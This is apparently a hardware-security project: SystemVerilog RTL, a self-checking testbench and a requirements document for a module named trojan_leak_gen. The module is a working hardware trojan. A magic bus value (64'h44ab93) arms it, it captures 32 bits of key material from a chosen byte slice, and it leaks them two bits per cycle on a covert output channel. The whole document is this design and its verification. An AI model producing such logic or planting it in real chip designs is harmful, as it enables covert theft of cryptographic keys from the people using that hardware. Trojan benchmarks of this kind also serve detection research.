// File: rtl/trojan_leak_gen_if.sv
// rtl/trojan_leak_gen_if.sv - observed bus and leak outputs bundled for trojan_leak_gen
interface trojan_leak_gen_if #(
    parameter int DATA_W = 64,
    parameter int SYM_W  = 2
);
    logic [DATA_W-1:0] data;
    logic              leak_en;
    logic [SYM_W-1:0]  leak_sym;
    logic              busy;

    // Environment side: drives the observed bus, watches the leak channel
    modport master (
        output data,
        input  leak_en,
        input  leak_sym,
        input  busy
    );

    // Block side: observes the bus, produces the leak channel
    modport slave (
        input  data,
        output leak_en,
        output leak_sym,
        output busy
    );
endinterface

// File: rtl/trojan_leak_gen.sv
// rtl/trojan_leak_gen.sv - trigger-armed key capture and serial symbol leak generator
module trojan_leak_gen #(
    parameter int                 DATA_W     = 64,
    parameter int                 TRIG_W     = 64,
    parameter logic [DATA_W-1:0]  TRIG_VAL   = DATA_W'(64'h44ab93),
    parameter int                 SLICE_W    = 8,
    parameter int                 NUM_SLICES = 4,
    parameter int                 SYM_W      = 2,
    parameter int                 REPEAT     = 1
) (
    input  logic              clk,
    input  logic              rst_all_n,
    trojan_leak_gen_if.slave  bus
);
    localparam int SLICES   = DATA_W / SLICE_W;
    localparam int SEL_W    = (SLICES > 1) ? $clog2(SLICES) : 1;
    localparam int KEY_W    = SLICE_W * NUM_SLICES;
    localparam int LEAK_CYC = KEY_W / SYM_W;
    localparam int LEAK_LEN = LEAK_CYC * REPEAT;
    // One counter serves both CAPTURE and LEAK, so it must hold the larger span
    localparam int CNT_MAX  = (LEAK_LEN > NUM_SLICES) ? LEAK_LEN - 1 : NUM_SLICES - 1;
    localparam int CNT_W    = (CNT_MAX > 0) ? $clog2(CNT_MAX + 1) : 1;

    localparam logic [CNT_W-1:0] CAP_LAST  = CNT_W'(NUM_SLICES - 1);
    localparam logic [CNT_W-1:0] LEAK_LAST = CNT_W'(LEAK_LEN - 1);
    localparam logic [SEL_W-1:0] SEL_LAST  = SEL_W'(SLICES - 1);

    typedef enum logic [1:0] {IDLE, CAPTURE, LEAK} state_t;

    state_t             state;
    logic [CNT_W-1:0]   cnt;
    logic [SEL_W-1:0]   sel;
    logic [SEL_W-1:0]   sel_d;
    logic [KEY_W-1:0]   key;
    logic [KEY_W-1:0]   key_next;
    logic [SEL_W-1:0]   sel_eff;
    logic [SLICE_W-1:0] slice_val;
    logic               trig;

    assign trig = (bus.data[TRIG_W-1:0] == TRIG_VAL[TRIG_W-1:0]);

    // Next key value: slice insertion while capturing, rotate-right by one symbol while leaking
    always_comb begin
        key_next  = key;
        sel_eff   = (int'(sel) >= SLICES) ? SEL_LAST : sel;
        slice_val = bus.data[int'(sel_eff)*SLICE_W +: SLICE_W];
        if (state == CAPTURE) begin
            key_next[int'(cnt)*SLICE_W +: SLICE_W] = slice_val;
        end else if (state == LEAK) begin
            key_next = (key >> SYM_W) | (key << (KEY_W - SYM_W));
        end
    end

    // Control FSM; every output is a flop so the leak channel carries no data-path logic
    always_ff @(posedge clk or negedge rst_all_n) begin
        if (!rst_all_n) begin
            state        <= IDLE;
            cnt          <= '0;
            sel          <= '0;
            sel_d        <= '0;
            key          <= '0;
            bus.leak_en  <= 1'b0;
            bus.leak_sym <= '0;
            bus.busy     <= 1'b0;
        end else begin
            sel_d <= bus.data[SEL_W-1:0];
            case (state)
                IDLE: begin
                    if (trig) begin
                        sel      <= sel_d;
                        cnt      <= '0;
                        state    <= CAPTURE;
                        bus.busy <= 1'b1;
                    end
                end
                CAPTURE: begin
                    key <= key_next;
                    if (cnt == CAP_LAST) begin
                        cnt          <= '0;
                        state        <= LEAK;
                        bus.leak_en  <= 1'b1;
                        bus.leak_sym <= key_next[SYM_W-1:0];
                    end else begin
                        cnt <= cnt + 1'b1;
                    end
                end
                LEAK: begin
                    key <= key_next;
                    if (cnt == LEAK_LAST) begin
                        cnt          <= '0;
                        state        <= IDLE;
                        bus.busy     <= 1'b0;
                        bus.leak_en  <= 1'b0;
                        bus.leak_sym <= '0;
                    end else begin
                        cnt          <= cnt + 1'b1;
                        bus.leak_sym <= key_next[SYM_W-1:0];
                    end
                end
                default: begin
                    state <= IDLE;
                end
            endcase
        end
    end
endmodule

// File: tb/tb_trojan_leak_gen.sv
// tb/tb_trojan_leak_gen.sv - self-checking bench for trojan_leak_gen
module tb_trojan_leak_gen;
    localparam logic [63:0] TRIG = 64'h44ab93;

    logic clk = 1'b0;
    logic rst_n;
    int   checks   = 0;
    int   failures = 0;

    always #5 clk = ~clk;

    trojan_leak_gen_if #(.DATA_W(64), .SYM_W(2)) if0 ();
    trojan_leak_gen_if #(.DATA_W(64), .SYM_W(2)) if1 ();
    trojan_leak_gen_if #(.DATA_W(64), .SYM_W(2)) if2 ();

    trojan_leak_gen dut0 (.clk(clk), .rst_all_n(rst_n), .bus(if0.slave));
    trojan_leak_gen #(.REPEAT(3)) dut1 (.clk(clk), .rst_all_n(rst_n), .bus(if1.slave));
    trojan_leak_gen #(.TRIG_W(32)) dut2 (.clk(clk), .rst_all_n(rst_n), .bus(if2.slave));

    task automatic step();
        @(posedge clk);
        #1;
    endtask

    task automatic set_data(input int w, input logic [63:0] v);
        case (w)
            0:       if0.data = v;
            1:       if1.data = v;
            default: if2.data = v;
        endcase
    endtask

    task automatic get_out(input int w, output logic en, output logic [1:0] sym, output logic bsy);
        case (w)
            0:       begin en = if0.leak_en; sym = if0.leak_sym; bsy = if0.busy; end
            1:       begin en = if1.leak_en; sym = if1.leak_sym; bsy = if1.busy; end
            default: begin en = if2.leak_en; sym = if2.leak_sym; bsy = if2.busy; end
        endcase
    endtask

    // Optional selector cycle, trigger cycle, then four capture words carrying key bytes in slice sel_v
    task automatic drive_capture(input int w, input bit pre, input logic [2:0] sel_v,
                                 input logic [63:0] trig_w, input logic [31:0] key_in);
        logic [63:0] wd;
        logic        en, bsy;
        logic [1:0]  sym;
        if (pre) begin
            wd = {$urandom, $urandom};
            wd[2:0] = sel_v;
            set_data(w, wd);
            step();
        end
        set_data(w, trig_w);
        step();
        get_out(w, en, sym, bsy);
        checks++;
        if (bsy !== 1'b1 || en !== 1'b0) begin
            failures++;
            $display("FAIL trigger_accept dut=%0d got busy=%b en=%b want busy=1 en=0", w, bsy, en);
        end
        for (int i = 0; i < 4; i++) begin
            wd = {$urandom, $urandom};
            wd[int'(sel_v)*8 +: 8] = key_in[i*8 +: 8];
            set_data(w, wd);
            step();
            get_out(w, en, sym, bsy);
            checks++;
            if (en !== (i == 3) || bsy !== 1'b1) begin
                failures++;
                $display("FAIL capture_phase dut=%0d word=%0d got en=%b busy=%b want en=%b busy=1",
                         w, i, en, bsy, (i == 3));
            end
        end
        set_data(w, 64'h0);
    endtask

    // Symbol k of every pass is bits [2k+1:2k] of the key; optionally hold the trigger word throughout
    task automatic check_leak(input int w, input logic [31:0] key, input int reps, input bit inject_all);
        logic        en, bsy;
        logic [1:0]  sym, exp_sym;
        logic [31:0] t;
        for (int k = 0; k < 16 * reps; k++) begin
            get_out(w, en, sym, bsy);
            t = key >> (2 * (k % 16));
            exp_sym = t[1:0];
            checks++;
            if (en !== 1'b1 || sym !== exp_sym || bsy !== 1'b1) begin
                failures++;
                $display("FAIL leak_sym dut=%0d k=%0d got en=%b sym=%0d busy=%b want en=1 sym=%0d busy=1",
                         w, k, en, sym, bsy, exp_sym);
            end
            set_data(w, inject_all ? TRIG : 64'h0);
            step();
        end
        get_out(w, en, sym, bsy);
        checks++;
        if (en !== 1'b0 || sym !== 2'd0 || bsy !== 1'b0) begin
            failures++;
            $display("FAIL leak_end dut=%0d got en=%b sym=%0d busy=%b want en=0 sym=0 busy=0", w, en, sym, bsy);
        end
        set_data(w, 64'h0);
    endtask

    task automatic test_reset();
        logic       en, bsy;
        logic [1:0] sym;
        rst_n = 1'b0;
        for (int w = 0; w < 3; w++) set_data(w, 64'h0);
        #1;
        for (int w = 0; w < 3; w++) begin
            get_out(w, en, sym, bsy);
            checks++;
            if (en !== 1'b0 || sym !== 2'd0 || bsy !== 1'b0) begin
                failures++;
                $display("FAIL reset_state dut=%0d got en=%b sym=%0d busy=%b want 0 0 0", w, en, sym, bsy);
            end
        end
        step();
        step();
        #2 rst_n = 1'b1;
        step();
        get_out(0, en, sym, bsy);
        checks++;
        if (bsy !== 1'b0) begin
            failures++;
            $display("FAIL idle_after_reset got busy=%b want 0", bsy);
        end
    endtask

    task automatic test_default_seq();
        drive_capture(0, 1'b1, 3'd1, TRIG, 32'hDDCCBBAA);
        check_leak(0, 32'hDDCCBBAA, 1, 1'b0);
        step();
    endtask

    task automatic test_random_sel();
        logic [2:0]  s;
        logic [31:0] k;
        for (int n = 0; n < 6; n++) begin
            s = (n == 0) ? 3'd7 : 3'($urandom_range(0, 7));
            k = $urandom;
            drive_capture(0, 1'b1, s, TRIG, k);
            check_leak(0, k, 1, 1'b0);
            step();
        end
    endtask

    task automatic test_retrigger();
        logic [31:0] k;
        logic        en, bsy;
        logic [1:0]  sym;
        k = $urandom;
        drive_capture(0, 1'b1, 3'd2, TRIG, k);
        check_leak(0, k, 1, 1'b1);
        step();
        get_out(0, en, sym, bsy);
        checks++;
        if (bsy !== 1'b0 || en !== 1'b0) begin
            failures++;
            $display("FAIL no_retrigger_at_end got busy=%b en=%b want 0 0", bsy, en);
        end
        k = $urandom;
        drive_capture(0, 1'b1, 3'd5, TRIG, k);
        check_leak(0, k, 1, 1'b0);
        step();
    endtask

    task automatic test_repeat();
        logic [31:0] k;
        drive_capture(1, 1'b1, 3'd1, TRIG, 32'hDDCCBBAA);
        check_leak(1, 32'hDDCCBBAA, 3, 1'b0);
        step();
        k = $urandom;
        drive_capture(1, 1'b1, 3'd6, TRIG, k);
        check_leak(1, k, 3, 1'b0);
        step();
    endtask

    task automatic test_trig_w32();
        logic [63:0] tw, tw2;
        logic [31:0] k;
        logic        en, bsy;
        logic [1:0]  sym;
        int          b;
        tw = {($urandom | 32'h1), 32'h0044ab93};
        k  = $urandom;
        drive_capture(2, 1'b1, 3'd3, tw, k);
        check_leak(2, k, 1, 1'b0);
        step();
        for (int n = 0; n < 4; n++) begin
            b = (n == 0) ? 0 : (n == 1) ? 31 : $urandom_range(0, 31);
            tw2 = tw ^ (64'h1 << b);
            set_data(2, tw2);
            step();
            get_out(2, en, sym, bsy);
            checks++;
            if (bsy !== 1'b0) begin
                failures++;
                $display("FAIL trig32_mismatch bit=%0d got busy=%b want 0", b, bsy);
            end
        end
        set_data(2, 64'h0);
        set_data(0, tw);
        step();
        get_out(0, en, sym, bsy);
        checks++;
        if (bsy !== 1'b0) begin
            failures++;
            $display("FAIL trig64_upper_bits got busy=%b want 0", bsy);
        end
        set_data(0, 64'h0);
        step();
    endtask

    task automatic test_reset_mid_leak();
        logic [31:0] k;
        logic        en, bsy;
        logic [1:0]  sym;
        k = $urandom | 32'h3;
        drive_capture(0, 1'b1, 3'd4, TRIG, k);
        for (int c = 0; c < 5; c++) step();
        #2 rst_n = 1'b0;
        #1;
        get_out(0, en, sym, bsy);
        checks++;
        if (en !== 1'b0 || sym !== 2'd0 || bsy !== 1'b0) begin
            failures++;
            $display("FAIL async_abort got en=%b sym=%0d busy=%b want 0 0 0", en, sym, bsy);
        end
        set_data(0, TRIG);
        for (int c = 0; c < 3; c++) begin
            step();
            get_out(0, en, sym, bsy);
            checks++;
            if (en !== 1'b0 || bsy !== 1'b0) begin
                failures++;
                $display("FAIL held_in_reset c=%0d got en=%b busy=%b want 0 0", c, en, bsy);
            end
        end
        #2 rst_n = 1'b1;
        k = $urandom;
        drive_capture(0, 1'b0, 3'd0, TRIG, k);
        check_leak(0, k, 1, 1'b0);
        step();
    endtask

    initial begin
        test_reset();
        test_default_seq();
        test_random_sel();
        test_retrigger();
        test_repeat();
        test_trig_w32();
        test_reset_mid_leak();
        $display("TB_RESULT checks=%0d failures=%0d", checks, failures);
        $finish;
    end
endmodule

// File: doc/trojan_leak_gen.md
TROJAN_LEAK_GEN -- requirements
Module: trojan_leak_gen

Interface
REQ-001 Parameter DATA_W, 64, width of the observed data bus.
REQ-002 Parameter TRIG_W, 64, number of low data bits compared against TRIG_VAL (1..DATA_W).
REQ-003 Parameter TRIG_VAL, 64'h44ab93, trigger pattern; only bits [TRIG_W-1:0] are used.
REQ-004 Parameter SLICE_W, 8, bits captured per capture cycle.
REQ-005 Parameter NUM_SLICES, 4, capture cycles per trigger; KEY_W = SLICE_W*NUM_SLICES.
REQ-006 Parameter SYM_W, 2, bits leaked per cycle; KEY_W SHALL be a multiple of SYM_W; LEAK_CYC = KEY_W/SYM_W.
REQ-007 Parameter REPEAT, 1, number of full key passes per trigger (>=1).
REQ-008 Parameter SEL_W = clog2(DATA_W/SLICE_W), derived, width of the slice selector.
REQ-009 clk  input  1  single clock; all flops on rising edge.
REQ-010 rst_all_n  input  1  asynchronous, active-low reset.
REQ-011 data  input  DATA_W  observed bus (trigger, selector and key source).
REQ-012 leak_en  output  1  high while a leak symbol is valid.
REQ-013 leak_sym  output  SYM_W  current leaked symbol (key LSBs).
REQ-014 busy  output  1  high in CAPTURE or LEAK.

Function
REQ-015 The block SHALL implement states IDLE, CAPTURE and LEAK.
REQ-016 Every cycle, the block SHALL register data[SEL_W-1:0] into sel_d, in any state.
REQ-017 In IDLE, when data[TRIG_W-1:0]==TRIG_VAL[TRIG_W-1:0] at an edge, the block SHALL latch sel<=sel_d, clear cnt and enter CAPTURE.
REQ-018 A sel value >= DATA_W/SLICE_W SHALL select slice DATA_W/SLICE_W-1.
REQ-019 In CAPTURE at edge with cnt=i, the block SHALL write data[sel*SLICE_W +: SLICE_W] into key[i*SLICE_W +: SLICE_W], leave other key bits unchanged and increment cnt.
REQ-020 At the edge with cnt=NUM_SLICES-1 in CAPTURE, the block SHALL clear cnt and pass to LEAK.
REQ-021 In LEAK, leak_en SHALL be 1 and leak_sym SHALL equal key[SYM_W-1:0]; both SHALL be driven directly from flops (no data-path logic).
REQ-022 At each LEAK edge, key SHALL rotate right by SYM_W so that the key is intact after each pass.
REQ-023 LEAK SHALL last exactly LEAK_CYC*REPEAT cycles, then return to IDLE.
REQ-024 Trigger matches in CAPTURE or LEAK SHALL be ignored (no restart, no sel change).
REQ-025 A trigger on the same edge LEAK ends SHALL be ignored; a re-trigger needs a match while in IDLE.
REQ-026 cnt SHALL be sized for LEAK_CYC*REPEAT-1 and SHALL never wrap inside a state.
REQ-027 leak_en SHALL be 0 in IDLE and CAPTURE, and leak_sym SHALL be 0 when leak_en is 0.
REQ-028 Latency: first symbol valid on the cycle after the NUM_SLICES-th capture edge, i.e. NUM_SLICES+1 cycles after the trigger edge.

Reset
REQ-029 rst_all_n low SHALL asynchronously force IDLE, cnt=0, sel=0, sel_d=0, key=0, leak_en=0, leak_sym=0, busy=0.
REQ-030 Reset asserted mid-CAPTURE or mid-LEAK SHALL abort the operation with no further symbols.
REQ-031 Reset deassertion SHALL take effect on a clk edge.
REQ-032 The first trigger match SHALL be recognised on the first clk edge after deassertion.

Verification
REQ-033 Defaults: data[2:0]=1, then data=64'h44ab93, then four words with bits[15:8]=AA,BB,CC,DD -> key=32'hDDCCBBAA; 16 leak cycles; symbols 2,2,2,2,3,2,3,2,...; leak_en falls after cycle 16.
REQ-034 Defaults: data[2:0]=7 before trigger -> bits[63:56] captured.
REQ-035 Defaults: trigger word re-applied during LEAK -> no restart, exactly 16 symbols; a fresh trigger in IDLE then produces a new 16-symbol sequence.
REQ-036 REPEAT=3, same stimulus as REQ-033 -> 48 leak cycles; the symbol sequence repeats exactly 3 times.
REQ-037 Defaults: rst_all_n pulsed low at leak cycle 5 -> leak_en=0 and busy=0 immediately; no symbols until the next trigger.
REQ-038 TRIG_W=32: data with low 32 bits = 0x0044ab93 and nonzero upper bits -> trigger accepted; one low-bit mismatch -> no trigger.
